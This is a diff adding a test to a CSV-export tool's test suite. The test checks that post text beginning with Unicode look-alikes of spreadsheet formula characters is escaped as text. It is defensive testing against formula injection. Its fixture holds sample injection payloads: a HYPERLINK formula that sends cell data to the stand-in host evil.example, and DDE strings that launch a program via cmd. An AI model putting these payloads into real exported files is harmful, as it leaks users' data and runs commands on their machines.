@@ -5,12 +5,15 @@ from __future__ import annotations
 
 import csv
 import io
+import sys
+import unicodedata
 from datetime import UTC, datetime
 from pathlib import Path
 
 from click.testing import CliRunner
 
 from miner.cli import main
+from miner.cli.output import FORMULA_FIRST
 from miner.records import Post
 from miner.store import Store
 
@@ -69,6 +72,26 @@ def test_query_csv_writes_a_formula_in_post_text_as_text_and_numbers_as_they_are
     assert [row[0] for row in rows] == [*("'" + text for text in FORMULAS), *PLAIN]
     for row in rows:
         assert row[1:] == ["-1.5", "-3", "-2.50", "+1e3", "'  =1+1", "'\tx", "'\r=1+1", "'-"]
+
+
+# The same, with a character that Unicode's compatibility normalisation (NFKC), as a spreadsheet may read a cell, makes
+# one a formula starts with: the full-width ones Chinese and Japanese input methods type, the small ones, after a space
+# (an ideographic one too). A full-width minus before a number is no number a spreadsheet reads as one.
+LOOKALIKES = ('\uff1dHYPERLINK("http://evil.example/?"&A1,"click")', "\uff0b1+cmd|' /C calc'!A0",
+              "\uff0d2+3+cmd|' /C calc'!A0", "\uff20SUM(1+1)", "\ufe66cmd|' /C calc'!A0", "\u3000\uff1d1+1",
+              " \u207c1+1", "\u208c1", "\u2a752", "\ufe621", "\ufe63\uff11", "\ufe6bx", "\u207a1", "\u208a1",
+              "\ufb291", "\u2a76x", "\uff0d1.5")
+
+
+def test_query_csv_writes_a_formula_that_starts_with_a_look_alike_as_text(runner: CliRunner, tmp_path: Path) -> None:
+    # "＝HYPERLINK(...)" was written as stored: a spreadsheet that reads "＝" as "=" sends the sheet away.
+    db = _store(tmp_path, (*LOOKALIKES, "\u2212 a minus sign, ＝ inside, ＠alice", "\u3000 an ideographic space"))
+    texts = [row[0] for row in _csv(runner, db, "SELECT text FROM posts ORDER BY id")[1:]]
+    assert texts == [*("'" + text for text in LOOKALIKES), "\u2212 a minus sign, ＝ inside, ＠alice",
+                     "\u3000 an ideographic space"]
+    # Each character NFKC makes one a formula starts with is one of them.
+    folded = {chr(c) for c in range(sys.maxunicode + 1) if unicodedata.normalize("NFKC", chr(c))[:1] in FORMULA_FIRST}
+    assert folded == FORMULA_FIRST
 
 
 def test_query_csv_raw_writes_every_text_as_stored(runner: CliRunner, tmp_path: Path) -> None:
